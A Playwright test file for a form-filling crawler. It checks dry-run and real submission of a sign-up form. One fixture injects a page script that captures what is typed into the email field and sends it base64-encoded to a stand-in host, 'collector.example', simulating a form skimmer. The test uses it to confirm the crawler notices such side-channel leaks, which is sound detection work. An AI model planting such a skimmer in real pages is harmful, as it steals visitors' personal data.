import { expect, test } from '@playwright/test';
import { filledForm } from '../../crawler/evidence/filled.js';
import { fillOn, formPage } from './fill-site.js';
import type { Site } from './logging-server.js';

const signUp = `<form action="/join" method="post">
  <label>Name (required) <input name="name" required></label>
  <label>E-mail (required) <input type="email" name="email" required></label>
  <label>Company <input name="company"></label>
  <button>Join</button></form>`;

const site =
  (script: string): Site =>
  ({ path, method, body }) => {
    if (path === '/') return formPage(signUp, script);
    if (path === '/join' && method === 'POST')
      return body.includes('%40') ? { body: 'welcome' } : { status: 422, body: signUp };
    return { status: 204 };
  };

test('dry: a form is filled and submitted, nothing typed reaches the server, and its own submission is told from a side channel', async () => {
  const script = `let t; document.querySelector('[name=email]').addEventListener('input', e => { clearTimeout(t);
    t = setTimeout(() => fetch('https://collector.example/v?e=' + btoa(e.target.value), { mode: 'no-cors' }), 1900); });`;
  const { filled, raw, tookMs } = await fillOn(site(script));
  filledForm.parse(filled);
  expect(filled.outcome).toEqual({ ok: true });
  const values = filled.typed.map(({ value }) => value);
  expect(values).toHaveLength(3);
  for (const value of values) expect(raw).not.toContain(value);
  expect(filled.trials.map(({ filled: kind, result }) => [kind, result])).toEqual([
    ['empty', 'refused-by-browser'],
    ['required-only', 'stopped'],
    ['full', 'stopped'],
  ]);
  expect(filled.trials[0]?.refusedFields.map(({ selector }) => selector)).toHaveLength(2);
  test.info().annotations.push({ type: 'took', description: `${tookMs} ms` });
});

test('real: the form arrives and the answer is recorded', async () => {
  const { filled, requests } = await fillOn(site(''), { submit: 'real' });
  expect(requests.filter(({ path }) => path === '/join')).toHaveLength(2);
  expect(filled.trials.map(({ filled: kind, result }) => [kind, result])).toEqual([
    ['empty', 'refused-by-browser'],
    ['required-only', 'sent'],
    ['full', 'sent'],
  ]);
  expect(filled.trials[2]?.hops).toEqual([
    { url: 'https://www.mpro.org/join', method: 'POST', status: 200, carriesValues: true },
  ]);
});
